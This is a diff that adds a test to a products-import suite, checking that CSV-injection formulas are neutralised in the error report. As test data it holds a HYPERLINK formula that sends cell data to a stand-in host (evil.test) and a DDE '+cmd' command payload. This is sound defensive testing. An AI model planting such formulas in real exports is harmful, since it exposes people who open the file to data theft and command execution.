@@ -78,6 +78,22 @@ describe('products', () => {
     ]);
   });
 
+  test('when an imported record carries a spreadsheet formula in a bad field (CSV injection), then the error CSV neutralises every formula cell', async () => {
+    const p = uniq('F');
+    const formula = '=HYPERLINK("http://evil.test/steal?d="&A1,"Click to fix")';
+    const csv = ['sku,name,minimumOrderQuantity,description', `${p}-1,@SUM(A1:A9),"${formula.replace(/"/g, '""')}",+cmd|' /C calc'!A0`].join('\r\n');
+    const job = await runFile(org, { kind: 'products' }, 'formulas.csv', csv);
+    expect(counts(job)).toMatchObject({ totalRecords: 1, failed: 1 });
+    expect((await errorsOf(org, job.jobId)).errors.map((e) => e.field)).toEqual(['minimumOrderQuantity']);
+    const res = await fetch(`${org.base}/api/imports/${job.jobId}/errors?format=csv`, { headers: { authorization: `Bearer ${org.adminToken}` } });
+    const lines = (await res.text()).trim().split('\r\n');
+    expect(lines[1].startsWith(`${p}-1,'@SUM(A1:A9),"'=HYPERLINK(`)).toBe(true);
+    expect(lines[1]).toContain(`,'+cmd|' /C calc'!A0,minimumOrderQuantity,`);
+    // No cell of the report starts with a formula character.
+    const cells = lines[1].match(/("([^"]|"")*"|[^,]*)(,|$)/g)!.map((c) => c.replace(/,$/, '').replace(/^"|"$/g, ''));
+    expect(cells.filter((c) => /^[=+\-@]/.test(c))).toEqual([]);
+  });
+
   test('when a job finished more than 30 days ago and the organization submits another, then its error report is gone and a recent one stays', async () => {
     const p = uniq('R');
     const bad = [{ sku: `${p}-1`, name: 'Good' }, { sku: `${p}-2` }];
